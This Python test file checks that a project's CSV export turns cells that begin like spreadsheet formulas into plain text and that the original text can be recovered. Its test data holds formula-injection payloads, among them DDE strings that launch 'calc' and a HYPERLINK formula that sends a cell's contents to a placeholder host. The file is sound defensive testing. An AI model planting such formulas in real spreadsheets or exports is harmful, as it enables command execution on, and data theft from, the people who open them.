"""CSV files: what is read from them is what was written, and no cell is a formula."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from dataclasses import replace
from typing import Final

import pytest
from hypothesis import given, strategies as st

from chronicle.columns import NOTES, TABLES, Table
from chronicle.model import Chronicle
from chronicle.spreadsheets import neutral, sheet
from chronicle.tables import Cell, Row, rows, source_of
from tests.chronicles import SITE, SMALL
from tests.factories import make_chronicle
from tests.scaling import assert_linear
from tests.test_site import real_chronicle

#: what a cell never begins with, and what may stand before it
DANGEROUS: Final = "=+-@\t\r\n＝＋－＠"
SKIPPED: Final = (
    " \u00a0\u00ad\u180e\u200b\u200c\u200d\u200e\u200f\u2060\u2061\u2062\u2063\u2064\ufeff\"'`‘’“”„«»,;；，|"
)
#: what a formula begins with
SIGNS: Final[tuple[str, ...]] = tuple("=+-@＝＋－＠﹦﹢﹣﹫−")
CHRONICLES: Final[dict[str, Callable[[], Chronicle]]] = {
    "small": lambda: SMALL,
    "invented": make_chronicle,
    "real": real_chronicle,
}


def is_formula(text: str) -> bool:
    """Tell whether *text* begins like a formula, spaces, quotation marks and separators aside."""
    bare = next((c for c in text if not c.isspace() and c not in SKIPPED), "")
    return text.lstrip("'").startswith(("\t", "\r", "\n")) or bare in SIGNS


def exact(cell: str) -> str:
    """Undo what the page of the data explains: the first apostrophe, where what follows begins like a formula."""
    return cell[1:] if cell.startswith("'") and is_formula(cell[1:]) else cell


def read(data: bytes) -> list[list[str]]:
    """Return the cells of a CSV file."""
    return list(csv.reader(io.StringIO(data.decode(), newline=""), strict=True))


def written(*cells: str) -> list[str]:
    """Return *cells*, written to one row and read again."""
    table = Table(name="t", about="", noun=("", ""), key=(), columns=TABLES[0].columns[: len(cells)])
    return read(sheet(table, [cells]).data)[1]


FORMULAS: Final = [
    "=1+1",
    '=HYPERLINK("https://x.example/?"&A1,"see")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+7 701 000 00 00",
    "-15 degrees",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\tno formula",
    "\r=1",
    "\n=1",
    "'\r",
    "''\ta",
    " =1+1",
    "\u00a0=1",
    "\ufeff=1+1",
    "\u200b=1",
    '"=1+1',
    "'=1+1",
    "''=1+1",
    "“=1”",
    "«-5»",
    "；=1+1",
    ";=1+1",
    ",=1",
    "|=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "−15",
    "﹦1",
    '";=1+1;"',
    "  \"' ;=1",
]  # fmt: skip


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_becomes_text_and_can_be_had_back(formula: str) -> None:
    (cell,) = written(formula)

    assert cell == f"'{formula}"
    assert exact(cell) == formula


PLAIN: Final = [
    "", "December 8", "2022-12.18", "405", "a=1", "1-2", "x@y.example", "'tis", "'", "''", "“No comment”", "[1]", "ә",
    "Жанболат Мамай", "https://a.example/?a=1&b=+2", "a\nb", "a\r\nb", 'say "no"', "a,b;c", "1e5", " leading", "trailing ",
]  # fmt: skip


@pytest.mark.parametrize("text", PLAIN)
def test_other_text_stays_as_it_is(text: str) -> None:
    assert written(text, "beside") == [text, "beside"]
    assert exact(text) == text


@given(
    st.text(st.sampled_from(DANGEROUS + SKIPPED + "a1\u05d0"), max_size=12)
    | st.text(st.characters(exclude_characters="\0", exclude_categories=["Cs"]))
)
def test_every_text_comes_back(text: str) -> None:
    (cell,) = written(text)

    assert cell[:1] not in tuple(DANGEROUS)
    assert cell == (f"'{text}" if is_formula(text) else text)
    assert exact(cell) == text


def test_a_sheet_by_the_letter() -> None:
    """RFC 4180: a header, CR LF after every line, all cells quoted, quotation marks doubled, empty cells empty."""
    table = replace(NOTES, columns=NOTES.columns[:4])

    made = sheet(table, [('a "b"\r\nc', 1, True, None), ("=1", -1, False, "ә")])

    assert made.data == (
        b'"event","position","url","date"\r\n"a ""b""\r\nc","1","true",""\r\n"\'=1","-1","false","\xd3\x99"\r\n'
    )
    assert (made.rows, made.filled) == (2, (2, 2, 2, 1))


def test_a_row_of_another_width_is_refused() -> None:
    with pytest.raises(ValueError, match="argument 2 is"):
        sheet(NOTES, [("a",)])


def test_an_empty_table_has_its_header() -> None:
    made = sheet(NOTES, [])

    assert read(made.data) == [list(NOTES.header)]
    assert (made.rows, set(made.filled)) == (0, {0})


@pytest.mark.parametrize("table", TABLES, ids=lambda table: table.name)
@pytest.mark.parametrize("name", CHRONICLES)
def test_every_cell_comes_back_and_none_is_a_formula(name: str, table: Table) -> None:
    given_rows = list(rows(table.name, source_of(CHRONICLES[name](), SITE)))

    made = sheet(table, given_rows)
    header, *found = read(made.data)

    assert header == list(table.header)
    assert [[exact(cell) for cell in row] for row in found] == [
        [_plain(v) for v in row] for row in given_rows
    ]
    assert all(cell[:1] not in tuple(DANGEROUS) for row in found for cell in row)
    assert made.rows == len(found)
    assert made.filled == tuple(sum(row[n] != "" for row in found) for n in range(len(header)))


def _plain(value: Cell) -> str:
    if isinstance(value, bool):
        return str(value).lower()
    return "" if value is None else str(value)


def test_an_event_made_of_formulas_is_safe() -> None:
    row: Row = tuple(FORMULAS)
    columns = tuple(replace(TABLES[0].columns[0], name=f"c{n}") for n in range(len(row)))

    _, found = read(sheet(replace(NOTES, columns=columns), [row]).data)

    assert [exact(cell) for cell in found] == FORMULAS


@pytest.mark.parametrize("unit", [" ", "\"' ;", "=", "'\t"], ids=repr)
def test_the_cost_grows_with_the_length(unit: str) -> None:
    assert_linear(neutral, unit, 400_000)
